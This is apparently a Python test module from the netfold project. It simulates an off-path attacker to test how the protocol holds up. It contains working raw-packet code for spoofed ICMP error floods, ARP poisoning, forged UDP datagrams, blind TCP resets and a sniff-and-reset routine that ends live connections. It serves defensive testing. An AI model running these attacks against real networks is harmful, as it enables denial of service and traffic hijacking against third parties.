# SPDX-FileCopyrightText: 2026 The netfold authors
# SPDX-License-Identifier: Apache-2.0
"""An off-path attacker: a process that sees no packet of a job, but knows the addresses and ports of its members. It is
root on a host of its own, or has no rights on a member's host.

As a program, `python -m tests.traffic.off_path PLAN` runs one attack until its standard input ends, and prints how many
packets it sent. PLAN is a `Plan` as JSON."""

from __future__ import annotations

import contextlib
import ctypes
import json
import os
import select
import socket
import struct
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import asdict, dataclass, replace
from functools import partial
from itertools import cycle, islice
from random import Random

from netfold.protocol.runtime import is_only_user
from netfold.protocol.wire import Kind
from tests.dataplane.frames import ARP, TCP, Ip, Netfold, arp_request, checksum, ethernet, ip, mac

UNREACHABLE, SOURCE_QUENCH, REDIRECT, TIME_EXCEEDED, PARAMETER_PROBLEM = 3, 4, 5, 11, 12
FRAGMENTATION_NEEDED = 4  # a code of UNREACHABLE
NEXT_MTU = 576
ICMP, UNPRIVILEGED = 1, 65534
ERRORS = (
    *((UNREACHABLE, code) for code in range(16)),
    *((TIME_EXCEEDED, code) for code in range(2)),
    *((PARAMETER_PROBLEM, code) for code in range(3)),
)
_MTUS = (0, 1, 67, 68, 256, 552, NEXT_MTU, 1067, 1068, 1500, 65535)
_ROUND = 4096  # different packets, which are sent again and again
_BATCH = 64
_CAPABILITY_VERSION = 0x20080522  # of capset(2)
_RESET_AFTER = 20  # segments of a connection
_ALL_FRAMES = 0x0003  # ETH_P_ALL


@dataclass(frozen=True)
class Flow:
    """Packets of a job, or segments of a TCP connection."""

    source: str
    destination: str
    source_port: int
    destination_port: int


@dataclass(frozen=True)
class Plan:
    """An attack: the name of one of ATTACKS, or "resets"; whose packets it is about; whose addresses it may bear; the
    interface it leaves by, for those that need one; the packets a second, 0: as many as the host sends."""

    attack: str
    flows: tuple[Flow, ...]
    sources: tuple[str, ...] = ()
    interface: str = "lo"
    per_second: int = 0
    seed: int = 0
    lanes: int = 64
    kinds: tuple[tuple[int, int], ...] = ()
    """Types and codes of well quoted ICMP errors; none: any message."""


# ---- ICMP ------------------------------------------------------------------------------------------------------------


def icmp(kind: int, code: int, quoted: bytes = b"", rest: int = 0) -> bytes:
    """`rest`: the second word of the header, such as the next hop's MTU."""
    message = struct.pack("!BBHI", kind, code, 0, rest) + quoted
    return message[:2] + struct.pack("!H", checksum(message + bytes(len(message) % 2))) + message[4:]


def quote(flow: Flow, payload_bytes: int = 0) -> bytes:
    """IPv4 and UDP header of a datagram, and the first bytes behind them."""
    datagram = struct.pack("!HHHH", flow.source_port, flow.destination_port, 1048, 0) + bytes(payload_bytes)
    return Ip(src=flow.source, dst=flow.destination, total_length=1068).pack(datagram)


def forge(kind: int, code: int, flow: Flow) -> bytes:
    """The ICMP error that a router would send for a datagram of the flow."""
    rest = NEXT_MTU if (kind, code) == (UNREACHABLE, FRAGMENTATION_NEEDED) else 0
    return icmp(kind, code, quote(flow), rest)


def random_icmp(flow: Flow, random: Random) -> bytes:
    """Any type and code, errors more often than others; about a datagram that is quoted well, badly or not at all."""
    kind = random.choice([*range(256), *[UNREACHABLE, TIME_EXCEEDED, PARAMETER_PROBLEM, REDIRECT] * 150])
    code = random.choice([random.randrange(16), random.randrange(16), random.randrange(256)])
    gateway = struct.unpack("!I", ip(random.choice([flow.source, flow.destination, "10.0.0.66"])))[0]
    rest = random.choice([random.choice(_MTUS), gateway, random.randrange(1 << 32)])
    return icmp(kind, code, random_quote(flow, random), rest)


def random_quote(flow: Flow, random: Random) -> bytes:
    if random.random() < 0.5:
        return quote(flow, random.choice([0, 0, 16, 1040]))
    packet = Ip(src=flow.source, dst=flow.destination)
    changed = random.choice(
        [
            replace(packet, protocol=random.choice([0, ICMP, TCP, 132, 255])),
            replace(packet, options=bytes(random.choice([4, 40]))),
            replace(packet, flags_and_offset=random.choice([0x2000, 0x2001, 1, 0x1FFF])),
            replace(packet, version=random.randrange(16)),
            replace(packet, ihl=random.randrange(16)),
            replace(packet, total_length=random.choice([0, 20, 27, 65535])),
            replace(packet, src=flow.destination, dst=flow.source),
        ]
    )
    quoted = changed.pack(struct.pack("!HHHH", flow.source_port, flow.destination_port, 1048, 0))
    return quoted[: random.choice([0, 1, 19, 20, 21, 27, len(quoted), len(quoted)])]


# ---- attacks ---------------------------------------------------------------------------------------------------------

Send = Callable[[], object]


def icmp_flood(plan: Plan, random: Random) -> Iterator[Send]:
    """To the sources of the flows, from any of the addresses: routers, the root, a gateway, no host."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(_ROUND):
        flow = random.choice(plan.flows)
        source = random.choice(plan.sources)
        packet = Ip(src=source, dst=flow.source, protocol=ICMP, ecn=random.randrange(4))
        message = forge(*random.choice(plan.kinds), flow) if plan.kinds else random_icmp(flow, random)
        yield partial(raw.sendto, packet.pack(message), (flow.source, 0))


def arp_poisoning(plan: Plan, random: Random) -> Iterator[Send]:
    """Requests, replies and announcements that claim the members' and the gateway's addresses."""
    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    link.bind((plan.interface, 0))
    own = ":".join(f"{byte:02x}" for byte in link.getsockname()[4])
    for _ in range(_ROUND):
        victim, claimed = random.choice(plan.flows).source, random.choice(plan.sources)
        frame = arp_request(random.choice([victim, claimed]), claimed, own, random.choice([1, 2, 2, 8]))
        to = random.choice([mac("ff:ff:ff:ff:ff:ff"), random.randbytes(6)])
        yield partial(link.send, to + frame[6:])
    yield partial(link.send, ethernet(random.randbytes(46), ARP))


def forged_datagrams(plan: Plan, random: Random) -> Iterator[Send]:
    """A job's packets and others by a process without rights, from free ports to the ports of members. Some have ECN
    marks."""
    _drop_rights()
    sockets = [socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(8)]
    for number, sock in enumerate(sockets):
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_IP, socket.IP_TOS, number % 4)
        sock.bind((plan.sources[number % len(plan.sources)], 0))
    for _ in range(_ROUND):
        flow = random.choice(plan.flows)
        header = Netfold(
            kind=random.choice([Kind.GRADIENT, Kind.RESULT]),
            tree=random.randrange(8),
            round=random.randrange(4),
            slot=random.randrange(64),
            child=random.randrange(2),
            lanes=[random.randrange(-(2**31), 2**31)] * plan.lanes,
            flags=random.randrange(256),
            exponent=random.randrange(256),
        )
        data = random.choice([header.pack(), header.pack(), random.randbytes(random.randrange(1400))])
        to = random.choice([(flow.source, flow.source_port), (flow.destination, flow.destination_port)])
        yield partial(random.choice(sockets).sendto, data, to)


def blind_resets(plan: Plan, random: Random) -> Iterator[Send]:
    """TCP segments with RST, SYN or FIN for connections whose addresses and ports are known, but not their sequence
    numbers."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for _ in range(_ROUND):
        flow = random.choice(plan.flows)
        segment = tcp(
            flow, random.randrange(1 << 32), random.randrange(1 << 32), random.choice([4, 4, 20, 2, 17])
        )
        packet = Ip(src=flow.source, dst=flow.destination, protocol=TCP)
        yield partial(raw.sendto, packet.pack(segment), (flow.destination, 0))


ATTACKS: dict[str, Callable[[Plan, Random], Iterator[Send]]] = {
    "icmp": icmp_flood,
    "arp": arp_poisoning,
    "datagrams": forged_datagrams,
    "blind-resets": blind_resets,
}


def tcp(flow: Flow, sequence: int, acknowledged: int, flags: int) -> bytes:
    ports = struct.pack("!HH", flow.source_port, flow.destination_port)
    segment = ports + struct.pack("!IIBBHHH", sequence, acknowledged, 0x50, flags, 0, 0, 0)
    pseudo = ip(flow.source) + ip(flow.destination) + struct.pack("!HH", TCP, len(segment))
    return segment[:16] + struct.pack("!H", checksum(pseudo + segment)) + segment[18:]


def reset_connections(plan: Plan, _: Random) -> int:
    """The worst case of resets: each connection to a flow's destination is ended after some segments, with the sequence
    number that its client expects. Returns their number."""
    servers = {(flow.destination, flow.destination_port) for flow in plan.flows}
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    link = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ALL_FRAMES))
    link.bind((plan.interface, _ALL_FRAMES))
    seen: Counter[Flow] = Counter()
    ended = set()
    while not _has_input_ended(link):
        packet = link.recv(65536)
        if packet[9] != TCP or packet[0] != 0x45:
            continue
        ports = struct.unpack("!HH", packet[20:24])
        flow = Flow(socket.inet_ntoa(packet[12:16]), socket.inet_ntoa(packet[16:20]), *ports)
        if (flow.destination, flow.destination_port) not in servers:
            continue
        seen[flow] += 1
        if seen[flow] < _RESET_AFTER:
            continue
        back = Flow(flow.destination, flow.source, flow.destination_port, flow.source_port)
        expected = int.from_bytes(packet[28:32], "big")  # what the client acknowledges
        reset = Ip(src=back.source, dst=back.destination, protocol=TCP).pack(tcp(back, expected, 0, 4))
        raw.sendto(reset, (back.destination, 0))
        ended.add(flow)
    return len(ended)


# ---- the program -----------------------------------------------------------------------------------------------------


class Attack:
    """A running attack. `sent` after its end: packets, or connections that were reset."""

    def __init__(self) -> None:
        self.sent = 0


Popen = Callable[..., subprocess.Popen[str]]


@contextmanager
def attacking(plan: Plan, popen: Popen = subprocess.Popen) -> Iterator[Attack]:
    """Runs the attack in a process of its own. `popen`: starts it, in another host for example."""
    command = [sys.executable, "-m", "tests.traffic.off_path", json.dumps(asdict(plan))]
    pipe = subprocess.PIPE
    attack = Attack()
    with popen(command, stdin=pipe, stdout=pipe, stderr=pipe, text=True) as process:
        try:
            assert process.stdout is not None
            assert process.stdout.readline() == "attacking\n", process.communicate(timeout=60)[1]
            yield attack
        finally:
            output, errors = process.communicate(timeout=60)
        assert process.returncode == 0, errors
        attack.sent = int(output)


def parse_sockets(table: str) -> Iterator[Flow]:
    """Yields the flows of /proc/net/udp or /proc/net/tcp. Port 0 of a destination: the socket is not connected, or
    listens."""
    for line in table.splitlines()[1:]:
        local, remote = map(_socket_address, line.split()[1:3])
        yield Flow(local[0], remote[0], local[1], remote[1])


def _socket_address(text: str) -> tuple[str, int]:
    address, port = text.split(":")
    return socket.inet_ntoa(bytes.fromhex(address)[::-1]), int(port, 16)


def _has_input_ended(*awaited: socket.socket) -> bool:
    """Whether standard input has ended. Waits for one of the sockets to be readable if there are any."""
    readable, _, _ = select.select([sys.stdin, *awaited], [], [], None if awaited else 0)
    return sys.stdin in readable


def _drop_rights() -> None:
    if is_only_user():  # in a user's own namespaces there is no other user, but rights can go
        header, no_capabilities = struct.pack("=Ii", _CAPABILITY_VERSION, 0), bytes(24)
        if ctypes.CDLL(None, use_errno=True).capset(header, no_capabilities):
            raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    elif os.geteuid() == 0:
        os.setgroups([])
        os.setgid(UNPRIVILEGED)
        os.setuid(UNPRIVILEGED)


def _flood(sends: Sequence[Send], per_second: int) -> int:
    """Sends all again and again; what the host does not send does not count."""
    sent, started, endless = 0, time.monotonic(), cycle(sends)
    is_ended = False
    while not is_ended:
        for send in islice(endless, _BATCH):
            with contextlib.suppress(OSError):
                send()
                sent += 1
        if per_second:
            time.sleep(max(0.0, started + sent / per_second - time.monotonic()))
        is_ended = _has_input_ended()
    return sent


def _tell_ready() -> None:
    sys.stdout.write("attacking\n")
    sys.stdout.flush()


def main() -> None:
    values = json.loads(sys.argv[1])
    flows = tuple(Flow(**flow) for flow in values.pop("flows"))
    plan = Plan(**{**values, "flows": flows})
    random = Random(plan.seed)
    if plan.attack == "resets":
        _tell_ready()
        sent = reset_connections(plan, random)
    else:
        sends = list(ATTACKS[plan.attack](plan, random))
        _tell_ready()
        sent = _flood(sends, plan.per_second)
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    main()
